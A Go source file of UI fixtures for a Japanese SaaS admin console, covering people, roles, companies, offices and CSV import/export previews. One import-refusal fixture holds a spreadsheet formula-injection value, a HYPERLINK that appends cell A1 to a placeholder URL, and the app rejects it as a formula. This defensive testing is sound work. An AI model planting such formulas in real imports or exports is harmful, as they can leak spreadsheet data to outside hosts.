package page

import (
	"fmt"
	"net/http"
	"time"

	"cloudpocket/store"
)

// peopleExhibits are the pages about people, roles, companies and offices.
func peopleExhibits() []exhibit {
	people := func(name string, v People) exhibit {
		return exhibit{name, "/admin/people", func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.People(w, r, staff(), v) }}
	}
	person := func(name string, v Person) exhibit {
		return exhibit{name, "/admin/people/p1", func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.Person(w, r, staff(), v) }}
	}
	form := func(name string, v PersonForm) exhibit {
		return exhibit{name, "/admin/people/new", func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.PersonForm(w, r, staff(), v) }}
	}
	whose := func(name string, v Whose) exhibit {
		return exhibit{name, "/admin/people/new", func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.Whose(w, r, staff(), v) }}
	}
	copying := func(name string, v CopyRights) exhibit {
		return exhibit{name, "/admin/people/p1/copy", func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.CopyRights(w, r, staff(), v) }}
	}
	lines := personLines(60)
	client, other := lines[1], lines[3]
	wrong := personForm(false, 6)
	wrong.Problems = []Problem{{"name", "error.person_name", map[string]any{"Max": 100}}, {"office", "error.person_no_office", nil}}
	many := personForm(true, 0)
	many.Choices.Many, many.Typed, many.Choices.Trusts = true, "o1\no2", nil
	off, dismissed := personSeen(other, 0), personSeen(other, 0)
	dismissed.Dismissed = true
	off.State, off.Menus = store.AccountDisabled, nil
	all := []exhibit{
		people("people-none", People{}), people("people-unfound", People{Filter: store.AccountFilter{Text: "田中", NeverSigned: true}}),
		people("people-further", People{Filter: store.AccountFilter{Text: "田中"}, Next: "n"}), people("people-last", People{Later: true}),
		people("people-little", People{Items: lines[:4]}),
		people("people-much", People{Items: lines[:50], Filter: store.AccountFilter{Text: "さくら", CompanyID: "c1", Staff: true, State: store.AccountDisabled}, Company: "さくら食品株式会社", Next: "n", Later: true}),
		person("person-client", personSeen(client, 2)), person("person-much", personSeen(lines[2], 40)), person("person-off", off), person("person-dismissed", dismissed),
		person("person-refused", Person{PersonLine: lines[0], Trust: "ネットde顧問", TrustOn: true, Me: true, Problem: &Problem{Key: "error.last_administrator"}}),
		person("person-barred", Person{PersonLine: lines[0], Barred: true}),
		form("personform-client", personForm(false, 6)), form("personform-refused", wrong), form("personform-staff", personForm(true, 60)), form("personform-many", many),
		form("personform-edit", PersonForm{ID: "p1", Name: client.Name, Company: store.Company{ID: "c1", Name: "さくら食品株式会社"}}),
		whose("whose-none", Whose{Query: "無"}), whose("whose-some", Whose{Companies: companiesOf(12), Next: "n"}),
		copying("copyrights-choose", CopyRights{To: client, Candidates: lines[2:8]}), copying("copyrights-nobody", CopyRights{To: client, Problem: &Problem{Key: "error.copy_company"}}),
		copying("copyrights-preview", CopyRights{To: client, From: &other, Was: client.Menus(), Menus: MenusIn(store.PermitAll), NextRole: "所長", NextScope: store.OfficeScope{All: true}}),
		copying("copyrights-same", CopyRights{To: client, From: &other, Same: true}),
	}
	return append(append(all, placesExhibits()...), tablesExhibits()...)
}

// tablesExhibits are taking in and writing out.
func tablesExhibits() []exhibit {
	imports := func(name string, v Import) exhibit {
		v.Rows, v.Max = 10_000, 5
		v.Columns = []TableColumn{{"アカウントID", false}, {"顧問先", true}, {"氏名", true}, {"メールアドレス", false}, {"サインイン元", true}, {"識別子", true}, {"役割", false}, {"メニュー権限", true}, {"事業所権限", true}, {"状態", false}}
		return exhibit{name, v.Self(), func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.Import(w, r, staff(), v) }}
	}
	exports := func(name string, v TableExport) exhibit {
		return exhibit{name, v.Self(), func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.TableExport(w, r, staff(), v) }}
	}
	refused := TablePlan{New: 9_621, Changed: 12, Unchanged: 103, Refused: 264}
	for i := range 100 {
		refused.Refusals = append(refused.Refusals, []RowRefusal{
			{i + 2, "氏名", "=HYPERLINK(\"https://example.invalid/?q=\"&A1,\"山本（旧姓・五十嵐）アレクサンドリア・エリザベス・千代子\")", Problem{Key: "error.csv_formula"}},
			{i + 2, "顧問先", "SKR-99999", Problem{Key: "error.csv_company", Args: map[string]any{"Name": "SKR-99999"}}},
			{i + 2, "メールアドレス", "", Problem{Key: "error.person_email"}},
			{i + 2, "", "", Problem{Key: "error.csv_twice", Args: map[string]any{"Row": i + 1}}},
		}[i%4])
		refused.Changes = append(refused.Changes, RowChange{Row: i + 300, New: i%3 > 0, Name: personLines(4)[i%4].Name, Columns: []string{"氏名", "メールアドレス", "メニュー権限", "事業所権限"}[:i%5%4+1]})
	}
	ready := TablePlan{New: 2, Changed: 1, Unchanged: 40, Digest: "d", Changes: []RowChange{{2, true, "高橋 美咲", nil}, {3, true, "鈴木 健一", nil}, {5, false, "Maria González de la Cruz", []string{"メニュー権限", "事業所権限"}}}}
	return []exhibit{
		imports("import-people", Import{Table: "accounts"}), imports("import-companies", Import{Table: "companies"}), imports("import-offices", Import{Table: "offices"}),
		imports("import-unreadable", Import{Table: "accounts", Problems: []Problem{{"file", "error.csv_column", map[string]any{"Name": "しめい"}}}}),
		imports("import-ready", Import{Table: "accounts", File: "f", Plan: &ready}), imports("import-nothing", Import{Table: "companies", File: "f", Plan: &TablePlan{Unchanged: 3}}),
		imports("import-refused", Import{Table: "accounts", File: "f", Plan: &refused}),
		imports("import-changed", Import{Table: "accounts", File: "f", Plan: &ready, Problems: []Problem{{"", "error.csv_changed", nil}}}),
		exports("export-people", TableExport{Table: "accounts", Tables: []string{"accounts"}}), exports("export-companies", TableExport{Table: "companies", Tables: []string{"companies", "offices"}}),
		exports("export-refused", TableExport{Table: "accounts", Tables: []string{"accounts"}, Encoding: "cp932", Problems: []Problem{{"encoding", "error.csv_unwritable", map[string]any{"Sign": "𠮷"}}}}),
	}
}

func personLines(n int) (all []PersonLine) {
	names := []string{"高橋 美咲", "鈴木 健一", "山本（旧姓・五十嵐）アレクサンドリア・エリザベス・千代子", "Maria González de la Cruz"}
	for i := range n {
		l := PersonLine{Account: store.Account{ID: store.ID(fmt.Sprint("p", i)), Name: names[i%4], Email: fmt.Sprintf("someone.with.a.long.address+%d@sakura-shokuhin.example.jp", i), Subject: fmt.Sprintf("4f9c2a%04d", i),
			State: []store.AccountState{store.AccountActive, store.AccountDisabled}[i/3%2], Permissions: store.PermitView, Origin: store.FromConsole, CreatedAt: clock().Add(-900 * time.Hour)}}
		if l.Offices.All = i%3 == 0; !l.Offices.All {
			l.Offices.Offices = []store.ID{"o1", "o2"}[:1+i%2]
		}
		if i%4 == 0 {
			l.Permissions, l.RoleID, l.Role = store.PermitAll, "r1", "所長"
		} else {
			l.CompanyID, l.Company = "c1", "さくら食品株式会社"
			l.LastSignInAt, l.RightsAt = clock().Add(-time.Duration(i)*time.Hour), clock()
		}
		all = append(all, l)
	}
	return all
}

func personSeen(l PersonLine, n int) Person {
	l.Role = "担当"
	v := Person{PersonLine: l, Trust: "ネットde顧問", TrustOn: n > 0, Menus: []PersonMenu{{store.PermitView, true, false, false}, {store.PermitDeliver, false, false, false}, {store.PermitTrusts, true, true, false}, {store.PermitLog, false, false, true}}, Delivered: 1234, Sessions: 2, More: n > 30}
	for i, c := range companiesOf(n) {
		v.Offices = append(v.Offices, CompanyOffices{c, offices(1 + i%5)})
	}
	return v
}

func companiesOf(n int) (all []store.Company) {
	for i := range n {
		c := store.Company{ID: store.ID(fmt.Sprint("c", i)), Name: fmt.Sprintf("さくら食品第%d株式会社", i+1), CreatedAt: clock()}
		if i%2 == 0 {
			c.ExternalID = fmt.Sprintf("SKR-%05d", i)
		}
		all = append(all, c)
	}
	return all
}

func personForm(isStaff bool, n int) PersonForm {
	v := PersonForm{Staff: isStaff, Menus: store.PermitView, Choices: PersonChoices{All: true, Menus: []store.Permission{store.PermitView},
		Trusts: []store.Trust{{ID: "net-de-komon", Name: "ネットde顧問"}}, Roles: []store.Role{{ID: "r1", Name: "担当"}}}}
	if isStaff {
		v.Choices.Menus = MenusIn(store.PermitAll)
	} else {
		v.Company = companiesOf(1)[0]
	}
	for i, c := range companiesOf(n / 6) {
		v.Choices.Offices = append(v.Choices.Offices, CompanyOffices{c, offices(6)})
		v.Scope.Offices = append(v.Scope.Offices, store.ID(fmt.Sprint("o", i)))
	}
	return v
}

func placesExhibits() []exhibit {
	roles := func(name string, v Roles) exhibit {
		return exhibit{name, "/admin/people/roles", func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.Roles(w, r, staff(), v) }}
	}
	role := func(name string, v RoleForm) exhibit {
		return exhibit{name, "/admin/people/roles/r1", func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.Role(w, r, staff(), v) }}
	}
	companies := func(name string, v Companies) exhibit {
		return exhibit{name, "/admin/companies", func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.Companies(w, r, staff(), v) }}
	}
	company := func(name string, v Company) exhibit {
		return exhibit{name, "/admin/companies/c1", func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.Company(w, r, staff(), v) }}
	}
	office := func(name string, v Office) exhibit {
		return exhibit{name, "/admin/offices/o1", func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.Office(w, r, staff(), v) }}
	}
	chief := store.Role{ID: "06f2q0d9k3v5w7x8y9z0a1b2c3", Name: "所長", Permissions: store.PermitAll, Accounts: 2}
	form := RoleForm{Choices: MenusIn(store.PermitAll)}
	one := store.Company{ID: "c1", Name: "さくら食品株式会社", ExternalID: "SKR-00001"}
	coded := store.Office{ID: "o1", CompanyID: "c1", Name: "本社", ExternalID: "SKR-1", Codes: store.OfficeCodes{ReferenceCode: "01-イロハ", OfficeNumber: "12345", LaborInsuranceNumber: "13101123456000"}}
	ended := coded
	ended.ClosedAt = clock()
	some := append(offices(4), coded, ended)
	return []exhibit{
		roles("roles-none", Roles{New: &form}), roles("roles-some", Roles{Items: []store.Role{chief, {ID: "r2", Name: "担当", Permissions: store.PermitView | store.PermitDeliver}}, Next: "n"}),
		roles("roles-refused", Roles{New: &RoleForm{Choices: form.Choices, Problem: &Problem{Key: "error.role_taken"}}}),
		role("role-form", RoleForm{Role: chief, Choices: form.Choices}), role("role-barred", RoleForm{Role: chief, Barred: true}),
		role("role-refused", RoleForm{Role: chief, Choices: form.Choices, Problem: &Problem{Key: "error.role_held", Args: map[string]any{"Count": 2}}}),
		companies("companies-none", Companies{MayAdd: true}), companies("companies-unfound", Companies{Query: "無"}), companies("companies-last", Companies{Later: true}),
		companies("companies-some", Companies{Items: companiesOf(50), MayAdd: true, Next: "n"}),
		companies("companies-found", Companies{Query: "01イロハ", Offices: []CompanyOffices{{one, []store.Office{coded}}, {one, []store.Office{ended}}}, More: true}),
		company("company-new", Company{Whole: true}), company("company-bare", Company{Company: one, Whole: true, People: true}),
		company("company-some", Company{Company: one, Whole: true, People: true, Offices: some, Uses: store.CompanyUses{Offices: 6, Accounts: 3}, Next: "n"}),
		company("company-part", Company{Company: one, Offices: some[:2]}),
		company("company-refused", Company{Company: one, Whole: true, Problems: []Problem{{"external", "error.external_taken", nil}}}),
		office("office-new", Office{Office: store.Office{CompanyID: "c1"}, Company: one.Name, Whole: true}), office("office-used", Office{Office: coded, Company: one.Name, Whole: true, Uses: store.OfficeUses{Deliveries: 120, Packages: 2, Accounts: 3}}),
		office("office-ended", Office{Office: ended, Company: one.Name, Taught: []store.OfficeCode{{System: store.CodeLabor, Code: "13101123456000"}}}),
		office("office-refused", Office{Office: coded, Company: one.Name, Whole: true, Problems: []Problem{{"code", "error.office_code", map[string]any{"Max": 40}}}}),
		office("office-taken", Office{Office: coded, Company: one.Name, Whole: true, Problems: []Problem{{"code", "error.office_code_taken", map[string]any{"Code": "13101123456000", "Name": "支店"}}}}),
	}
}
